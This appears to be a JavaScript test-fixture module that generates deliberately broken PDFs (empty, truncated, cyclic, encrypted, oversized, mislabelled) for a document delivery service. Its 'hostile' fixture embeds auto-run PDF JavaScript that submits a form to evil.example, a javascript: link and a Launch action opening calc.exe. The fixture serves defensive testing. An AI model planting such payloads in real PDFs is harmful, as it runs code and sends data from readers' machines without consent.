// PDFs as they should not be, each in an Alma delivery of its own: /pdf/NAME.json leads to /pdf/NAME.pdf.
import { PDFDocument } from '@cantoo/pdf-lib'
import { PdfWriter } from '../../scripts/samples/formats/pdf-writer.mjs'

const SAYS = 'BT /F 24 Tf 72 700 Td (The tide turns at noon.) Tj ET'

/** A PDF of one page; `page`, `catalog` and `pages` add to what its parts say or replace it. */
function onePage({ page = '', catalog = '', box = '0 0 595 842', kids } = {}) {
  const pdf = new PdfWriter()
  const [root, pages, leaf] = [pdf.reserve(), pdf.reserve(), pdf.reserve()]
  const font = pdf.add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')
  const content = pdf.content(SAYS)
  pdf.put(root, `<< /Type /Catalog /Pages ${pages} 0 R ${catalog} >>`)
  pdf.put(pages, `<< /Type /Pages /Count 1 /Kids [${kids ?? leaf} 0 R] >>`)
  pdf.put(
    leaf,
    `<< /Type /Page /Parent ${pages} 0 R /MediaBox [${box}] /Contents ${content} 0 R /Resources << /Font << /F ${font} 0 R >> >> ${page} >>`,
  )
  return pdf.finish(root, pdf.add('<< /Title (Notes) >>'))
}

const SCRIPT = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\))'

async function withPassword() {
  const pdf = await PDFDocument.load(onePage())
  pdf.encrypt({ userPassword: 'lantern', ownerPassword: 'keeper' })
  return Buffer.from(await pdf.save({ useObjectStreams: false }))
}

/** A form of one field, filled in. */
async function filledForm() {
  const pdf = await PDFDocument.create()
  const page = pdf.addPage([595, 842])
  const field = pdf.getForm().createTextField('keeper')
  field.setText('Merrin Vale')
  field.addToPage(page, { x: 72, y: 600, width: 300, height: 40 })
  return Buffer.from(await pdf.save({ useObjectStreams: false }))
}

const FILES = {
  plain: () => onePage(),
  empty: () => Buffer.alloc(0),
  'web-page': () => Buffer.from('<!doctype html><title>Sign in</title><p>Please sign in</p>'),
  'not-a-pdf': () => Buffer.from('PK\u0003\u0004 this is a packed folder '.repeat(40), 'latin1'),
  truncated: () => onePage().subarray(0, 30),
  cyclic: () => onePage({ kids: 2 }),
  locked: withPassword,
  form: filledForm,
  huge: () => onePage({ box: '0 0 14400000 14400000' }),
  hostile: () =>
    onePage({
      catalog: `/OpenAction << ${SCRIPT} >> /AA << /WC << ${SCRIPT} >> >>`,
      page: `/AA << /O << ${SCRIPT} >> >> /Annots [
        << /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>
        << /Type /Annot /Subtype /Link /Rect [72 500 300 540] /A << ${SCRIPT} >> >>
        << /Type /Annot /Subtype /Link /Rect [72 400 300 440] /A << /S /Launch /F (calc.exe) >> >>
        << /Type /Annot /Subtype /Link /Rect [72 300 300 340] /A << /S /URI /URI (https://example.org/ok) >> >> ]`,
    }),
}

/** File at a path below /pdf/. */
export async function pdfFile(origin, path) {
  const [, name = '', kind] = /^([\w-]+)\.(json|pdf)$/.exec(path) ?? []
  if (!Object.hasOwn(FILES, name)) return undefined
  if (kind === 'pdf') return { type: 'application/pdf', body: await FILES[name]() }
  const files = [{ url: `${origin}/pdf/${name}.pdf`, label: `${name}.pdf` }]
  return { type: 'application/json', body: JSON.stringify({ label: name, files }) }
}
